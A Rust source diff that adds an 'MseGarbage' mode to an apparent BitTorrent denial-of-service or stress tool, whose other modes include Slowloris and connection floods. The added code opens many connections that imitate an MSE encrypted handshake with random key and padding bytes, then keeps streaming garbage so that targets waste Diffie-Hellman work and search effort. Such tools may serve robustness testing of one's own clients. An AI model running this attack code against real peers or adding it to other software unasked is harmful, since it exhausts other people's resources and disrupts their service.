@@ -45,10 +45,15 @@ pub enum Attack {
     Slowloris,
     /// `connections` connections opened at once, sending nothing.
     Flood,
+    /// `connections` connections, each opening like an MSE handshake (96
+    /// random bytes for a public key, random padding) and then sending
+    /// random bytes that never hold the handshake's sync marker: each
+    /// costs the target a Diffie-Hellman key and a bounded search.
+    MseGarbage,
 }
 
 impl Attack {
-    pub const ALL: [Attack; 9] = [
+    pub const ALL: [Attack; 10] = [
         Attack::HugeLength,
         Attack::KeepAlives,
         Attack::RequestFlood,
@@ -58,6 +63,7 @@ impl Attack {
         Attack::BadBitfield,
         Attack::Slowloris,
         Attack::Flood,
+        Attack::MseGarbage,
     ];
 
     pub fn name(self) -> &'static str {
@@ -71,6 +77,7 @@ impl Attack {
             Attack::BadBitfield => "bad-bitfield",
             Attack::Slowloris => "slowloris",
             Attack::Flood => "flood",
+            Attack::MseGarbage => "mse-garbage",
         }
     }
 
@@ -80,7 +87,7 @@ impl Attack {
 
     /// Whether the attack holds many connections (the others use one).
     pub fn is_mass(self) -> bool {
-        matches!(self, Attack::Slowloris | Attack::Flood)
+        matches!(self, Attack::Slowloris | Attack::Flood | Attack::MseGarbage)
     }
 }
 
@@ -324,7 +331,9 @@ fn single(attack: Attack, t: Target, c: &Counts, live: &dyn Fn() -> bool) {
                 alive = send(&[0, 0, 0, 0]);
             }
         }
-        Attack::Slowloris | Attack::Flood => unreachable!("mass attacks run in mass()"),
+        Attack::Slowloris | Attack::Flood | Attack::MseGarbage => {
+            unreachable!("mass attacks run in mass()")
+        }
     }
     if closed.load(Ordering::Relaxed) || !alive {
         c.closed_by_target.fetch_add(1, Ordering::Relaxed);
@@ -347,6 +356,19 @@ fn mass(attack: Attack, t: Target, connections: usize, c: &Counts, live: &dyn Fn
     let hs = handshake(&t.info_hash, true);
     let mut slots: Vec<Option<Slot>> = (0..connections).map(|_| None).collect();
     let mut buf = [0u8; 4096];
+    // Garbage for MseGarbage (xorshift: no pattern the target could sync
+    // on; its first byte never 19, which would read as plaintext).
+    let mut rng = 0x2545_f491_4f6c_dd1du64;
+    let mut garbage = |n: usize| -> Vec<u8> {
+        (0..n)
+            .map(|_| {
+                rng ^= rng << 13;
+                rng ^= rng >> 7;
+                rng ^= rng << 17;
+                rng as u8
+            })
+            .collect()
+    };
     while live() {
         let pass = Instant::now();
         // After one failed connect (a full accept queue), no more this
@@ -367,6 +389,17 @@ fn mass(attack: Attack, t: Target, connections: usize, c: &Counts, live: &dyn Fn
                 let _ = s.set_nonblocking(true);
                 let _ = s.set_nodelay(true);
                 c.connects.fetch_add(1, Ordering::Relaxed);
+                if attack == Attack::MseGarbage {
+                    // A public key and up to 512 bytes of padding at once.
+                    let mut opening = garbage(96 + 512);
+                    if opening[0] == 19 {
+                        opening[0] = 20;
+                    }
+                    let mut s = &s;
+                    if let Ok(n) = s.write(&opening) {
+                        c.sent.fetch_add(n as u64, Ordering::Relaxed);
+                    }
+                }
                 *slot = Some(Slot {
                     stream: s,
                     sent: 0,
@@ -394,6 +427,15 @@ fn mass(attack: Attack, t: Target, connections: usize, c: &Counts, live: &dyn Fn
                     Err(e) => gone = e.kind() != std::io::ErrorKind::WouldBlock,
                 }
                 s.next = now + Duration::from_secs(1);
+            }
+            if !gone && attack == Attack::MseGarbage {
+                // More garbage where the sync marker should come.
+                match s.stream.write(&garbage(64)) {
+                    Ok(n) => {
+                        c.sent.fetch_add(n as u64, Ordering::Relaxed);
+                    }
+                    Err(e) => gone = e.kind() != std::io::ErrorKind::WouldBlock,
+                }
             }
             if gone {
                 c.closed_by_target.fetch_add(1, Ordering::Relaxed);
